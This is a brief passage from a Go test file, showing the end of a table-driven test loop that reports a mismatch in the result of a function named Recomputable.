			t.Errorf("Recomputable(%v) = %v, want %v", tc.obj, got, tc.want)
		}
	}
}
